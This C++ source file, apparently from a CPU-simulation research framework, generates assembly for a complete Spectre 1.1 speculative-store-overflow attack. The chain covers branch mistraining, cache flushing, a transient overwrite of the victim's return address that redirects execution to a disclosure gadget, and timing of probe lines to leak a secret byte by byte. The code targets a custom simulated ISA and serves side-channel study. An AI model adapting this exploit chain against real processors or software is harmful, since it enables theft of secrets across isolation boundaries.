#include "attack/spectre11.hpp"

#include "casm/assembler.hpp"
#include "casm/runtime.hpp"
#include "support/error.hpp"

namespace crs::attack {

namespace {

std::string num(std::uint64_t v) { return std::to_string(v); }

/// The Spectre 1.1 victim: a bounds-checked store. On the wrong path the
/// store targets the saved return address in the speculative store buffer;
/// the `ret` right behind it forwards the overwritten value and control
/// transiently lands wherever r2 pointed. Nothing ever commits.
std::string victim11_source() {
  std::string s;
  s += "victim11:\n";  // r1 = index, r2 = value: if (i < len) buf[i] = v
  s += "    movi r4, buf_len\n";
  s += "    load r4, [r4]\n";          // flushed before the OOB call
  s += "    cmpltu r5, r1, r4\n";
  s += "    beqz r5, victim11_done\n"; // taken = out of bounds
  s += "    movi r6, buf\n";
  s += "    add r6, r6, r1\n";
  s += "    store [r6], r2\n";         // the speculative overflow
  s += "victim11_done:\n";
  s += "    ret\n";                    // forwards the smashed return slot
  return s;
}

/// Transient-only disclosure gadget: never architecturally reachable (no
/// call or jump targets it); only the forwarded store delivers control.
std::string sso_gadget_source() {
  std::string s;
  s += "sso_gadget:\n";                // r3 = &secret[i], live in wrong path
  s += "    loadb r7, [r3]\n";
  s += "    muli r7, r7, 64\n";
  s += "    movi r8, probe\n";
  s += "    add r8, r8, r7\n";
  s += "    loadb r9, [r8]\n";         // fills the leaking probe line
  s += "    ret\n";
  return s;
}

}  // namespace

std::string generate_spectre11_source(const Spectre11Config& c) {
  CRS_ENSURE(c.target_secret_address != 0 || !c.embed_secret.empty(),
             "target secret address not set");
  CRS_ENSURE(c.embed_secret.empty() ||
                 c.embed_secret.size() >= c.secret_length,
             "embedded secret shorter than secret_length");
  CRS_ENSURE(c.secret_length > 0, "secret length must be positive");
  CRS_ENSURE(c.train_iterations > 0, "train_iterations must be positive");

  const std::string target = c.embed_secret.empty()
                                 ? num(c.target_secret_address)
                                 : std::string("embedded_secret");
  std::string s;
  s += "; CR-Spectre attack binary (" + std::string(kSpectre11Name) +
       ", speculative store overflow)\n";
  s += ".org " + num(c.link_base) + "\n";
  s += ".entry _start\n";
  s += "_start:\n";
  s += "    movi r14, 0\n";  // byte index
  s += "byte_loop:\n";
  // 1. Mistrain the store's bounds check toward "in bounds".
  s += "    movi r13, " + num(c.train_iterations) + "\n";
  s += "train_loop:\n";
  s += "    movi r1, 0\n";
  s += "    movi r2, 0\n";
  s += "    call victim11\n";
  s += "    addi r13, r13, -1\n";
  s += "    bnez r13, train_loop\n";
  // 2. Flush the probe array and the bound.
  s += "    movi r5, probe\n";
  s += "    movi r6, 256\n";
  s += "flush_probe:\n";
  s += "    clflush [r5]\n";
  s += "    addi r5, r5, 64\n";
  s += "    addi r6, r6, -1\n";
  s += "    bnez r6, flush_probe\n";
  s += "    movi r4, buf_len\n";
  s += "    clflush [r4]\n";
  s += "    mfence\n";
  // 3. One transient store overflow of victim11's return slot. After the
  // call, the saved return address sits at (current sp − 8); the index
  // aims the "buffer" store exactly there, and the value is the gadget.
  s += "    movi r3, " + target + "\n";
  s += "    add r3, r3, r14\n";        // r3 = &secret[i] for the gadget
  s += "    movi r2, sso_gadget\n";    // v = disclosure gadget address
  s += "    mov r4, sp\n";
  s += "    addi r4, r4, -8\n";        // = victim11's return slot
  s += "    movi r6, buf\n";
  s += "    sub r1, r4, r6\n";         // i = return slot − buf (way OOB)
  s += "    call victim11\n";
  // 4. Time every probe line; min latency names the byte.
  s += "    movi r5, 0\n";
  s += "    movi r10, 100000\n";
  s += "    movi r11, 0\n";
  s += "probe_loop:\n";
  s += "    muli r6, r5, 64\n";
  s += "    movi r7, probe\n";
  s += "    add r6, r7, r6\n";
  s += "    mfence\n";
  s += "    rdcycle r2\n";
  s += "    loadb r7, [r6]\n";
  s += "    mov r12, r7\n";  // data dependency for the fence
  s += "    mfence\n";
  s += "    rdcycle r3\n";
  s += "    sub r2, r3, r2\n";
  s += "    cmplt r7, r2, r10\n";
  s += "    beqz r7, probe_next\n";
  s += "    mov r10, r2\n";
  s += "    mov r11, r5\n";
  s += "probe_next:\n";
  s += "    addi r5, r5, 1\n";
  s += "    movi r7, 256\n";
  s += "    cmpltu r7, r5, r7\n";
  s += "    bnez r7, probe_loop\n";
  // 5. Record the guess and loop.
  s += "    movi r6, recovered\n";
  s += "    add r6, r6, r14\n";
  s += "    storeb [r6], r11\n";
  s += "    addi r14, r14, 1\n";
  s += "    movi r7, " + num(c.secret_length) + "\n";
  s += "    cmpltu r7, r14, r7\n";
  s += "    bnez r7, byte_loop\n";
  s += "    movi r1, recovered\n";
  s += "    movi r2, " + num(c.secret_length) + "\n";
  s += "    call print\n";
  s += "    movi r1, 0\n";
  s += "    call exit_\n";

  s += victim11_source();
  s += sso_gadget_source();

  s += ".data\n";
  s += "buf_len: .word 8\n";
  s += "buf: .space 64\n";
  s += ".align 64\n";
  s += "probe: .space 16384\n";
  s += ".align 64\n";
  s += "recovered: .space " + num(c.secret_length + 8) + "\n";
  if (!c.embed_secret.empty()) {
    s += ".align 64\n";
    s += "embedded_secret: .ascii \"" +
         casm::escape_ascii(c.embed_secret) + "\"\n.byte 0\n";
  }
  return s;
}

sim::Program build_spectre11_binary(const Spectre11Config& c) {
  casm::AssembleOptions opt;
  opt.name = c.name;
  opt.link_base = c.link_base;
  return casm::assemble(generate_spectre11_source(c) + casm::runtime_library(),
                        opt);
}

}  // namespace crs::attack
